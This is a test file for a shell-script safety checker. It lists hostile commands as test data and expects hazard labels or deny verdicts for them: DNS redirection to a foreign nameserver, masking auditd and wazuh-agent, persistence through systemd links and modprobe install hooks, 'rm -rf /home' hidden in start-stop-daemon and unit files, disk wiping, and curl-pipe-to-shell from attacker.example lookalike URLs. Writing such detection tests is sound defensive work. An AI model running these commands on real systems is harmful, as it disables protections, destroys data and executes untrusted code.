import assert from 'node:assert/strict';
import { test } from 'node:test';
import { check } from '../../../src/index.ts';
import { expectHazards, seen, severityOf } from './seen.ts';

// Where names are asked for: what a network has said, one's own server or one of all the world; and a stranger's.
expectHazards([
  ['echo "nameserver $IP4_NAMESERVERS" > /etc/resolv.conf', 'changes-configuration'],
  ['printf "nameserver 127.0.0.53\\n" > /etc/resolv.conf', 'changes-configuration'],
  ['cat > /etc/resolv.conf <<END\nsearch $domain\nnameserver 9.9.9.9\nEND', 'changes-configuration'],
  ['ln -sf ../run/systemd/resolve/stub-resolv.conf /etc/resolv.conf', 'changes-configuration'],
  ['cp /run/resolvconf/resolv.conf /etc/resolv.conf', 'changes-configuration'],
  ['cat /etc/resolv.conf.dhclient-new.$$ > /etc/resolv.conf', 'changes-configuration'],
  ['echo "nameserver 198.51.100.7" > /etc/resolv.conf', 'system-settings'],
  ['for n in 198.51.100.7; do echo "nameserver $n" >> /etc/resolv.conf; done', 'system-settings'],
  ['ln -sf /tmp/r /etc/resolv.conf', 'system-settings'],
  ['printf "nameserver 9.9.9.9\\nnameserver 198.51.100.7\\n" | tee /etc/resolv.conf', 'system-settings'],
  [
    'echo "nameserver 198.51.100.7" > /run/resolvconf/x; cp /run/resolvconf/x /etc/resolv.conf',
    'system-settings',
  ],
]);

// A unit that is kept from starting, or let start, by a link; and one that watches over the machine.
expectHazards([
  ['ln -sf /dev/null /etc/systemd/system/app.timer', 'services'],
  [
    'ln -s /lib/systemd/system/app.service /etc/systemd/system/multi-user.target.wants/app.service',
    'services',
  ],
  ['ln -sf "/lib/systemd/system/$dm.service" /etc/systemd/system/display-manager.service', 'services'],
  ['systemctl enable "$unit"', 'services'],
  ['ln -sf /dev/null /etc/systemd/system/auditd.service', 'disables-protection'],
  ['cd /etc/systemd/system; ln -s -f /dev/null wazuh-agent.service', 'disables-protection'],
  ['ln -sf /tmp/x.service /etc/systemd/system/app.service', 'persistence'],
  ['systemctl enable "/tmp/$unit"', 'persistence'],
  ['systemctl mask unattended-upgrades', 'disables-protection'],
]);

// Lines that are shown, menus that are made anew, disks that are asked.
expectHazards([
  ['echo done > /dev/console', ''],
  ['echo "<4>done" > /dev/kmsg', ''],
  ['echo x > /dev/sda', 'writes-disk'],
  ['update-grub', 'tunes'],
  ['update-grub /tmp/x', 'kernel'],
  ['grub-install /dev/sda', 'kernel'],
  ['efibootmgr -v', ''],
  ['efibootmgr -c -L x -l x.efi', 'kernel'],
  ['sfdisk -d /dev/sda', ''],
  ['parted -s /dev/sda print', ''],
  ['parted -s /dev/sda mklabel gpt', 'writes-disk'],
  ['hdparm -B 254 /dev/sda', 'tunes'],
  ['hdparm --security-erase x /dev/sda', 'writes-disk'],
  ['echo "blacklist $m" >> /etc/modprobe.d/app.conf', 'changes-configuration'],
  ['echo "install usb /tmp/x" >> /etc/modprobe.d/app.conf', 'persistence'],
  ['ip route add default via $router dev eth0', 'tunes'],
  ['ip route add default via 198.51.100.7 dev eth0', 'system-settings'],
  ['iptables -A FORWARD -j app-forward', 'tunes'],
  ['iptables -A app-forward -j ACCEPT', 'system-settings'],
  ['rm -rf "${d:?}"/*', 'deletes-around'],
  ['d=; rm -rf "${d:?}"/*', 'deletes-around'],
  ['d=; rm -rf "$d"/*', 'deletes-everything'],
  ['rm -rf /var/lib/*', 'deletes-everything'],
]);

// What starts a service in the background, and what only stops it.
expectHazards([
  ['start-stop-daemon --start --pidfile $PID --exec /usr/sbin/app -- -d', ''],
  ['start-stop-daemon --stop --pidfile /var/run/app_*.pid', ''],
  ['start-stop-daemon -S -p /run/x -x /bin/rm -- -rf /home', 'deletes-everything'],
  ['start-stop-daemon --start --exec /bin/sh --startas /bin/rm -- -rf /home', 'deletes-everything'],
]);

// An account that the same script makes for a service.
expectHazards([
  ['adduser --system --group app\nusermod -G tape app', 'adds-account sets-up'],
  ['usermod -G tape app', 'changes-accounts'],
  ['adduser --system --group app\nusermod -G sudo app', 'changes-accounts sets-up'],
  ['adduser --system --group app\nusermod -G tape alice', 'changes-accounts sets-up'],
]);

test('what is gone with the next start is no matter for a person', async () => {
  const severity = async (script: string): Promise<string> =>
    severityOf((await seen(script)).facts, 'generated', 'load');
  assert.equal(await severity('modprobe loop'), 'low');
  assert.equal(await severity('modprobe -r loop'), 'medium');
  assert.equal(await severity('ip link set dev br0 up'), 'low');
  assert.equal(await severity('ip link set dev eth0 down'), 'medium');
  assert.equal(await severity('echo 3 > /sys/class/leds/x/brightness'), 'low');
  assert.equal(await severity('echo 1 > /sys/block/sda/device/delete'), 'medium');
});

test('the installer of a known program is for a person to decide, a stranger’s is not', async () => {
  const decide = async (text: string): Promise<string> => (await check({ text, name: 'a.sh' })).decision;
  assert.equal(await decide("curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y\n"), 'review');
  assert.equal(await decide('bash -c "$(curl -fsSL https://get.docker.com)"\n'), 'review');
  for (const fetched of [
    'http://get.docker.com',
    'https://get.docker.com.attacker.example/x',
    'https://get.docker.com@attacker.example/x',
    'https://get.docker.com attacker.example/x',
    'https://get.docker.com $MORE',
    '-k https://get.docker.com',
    '-x http://198.51.100.7:8080 https://get.docker.com',
    '--connect-to ::attacker.example: https://get.docker.com',
    'https://raw.githubusercontent.com/nvm-sh/nvm/../../evil/x/main/i.sh',
    'https://raw.githubusercontent.com/someone/tool/main/i.sh',
  ])
    assert.equal(await decide(`curl -s ${fetched} | sh\n`), 'deny', fetched);
});

test('a unit goes on behind a backslash, and a timer is no script', async () => {
  const unit = (command: string): string => `[Service]\nType=simple\nExecStart=${command}\n`;
  const read = async (text: string, name: string): Promise<string> => (await check({ text, name })).decision;
  assert.equal(await read('[Unit]\nDescription=a\n[Timer]\nOnCalendar=daily\n', 'a.timer'), 'allow');
  assert.equal(
    await read(unit("/bin/sh -c 'echo a; \\\n  exec /usr/bin/app; \\\n  exit 0'"), 'a.service'),
    'allow',
  );
  assert.equal(await read(unit("/bin/sh -c 'echo a; \\\n# b\n  rm -rf /home'"), 'a.service'), 'deny');
  assert.equal(await read('[Socket]\nExecStartPre=/bin/rm -rf /home\n', 'a.socket'), 'deny');
});
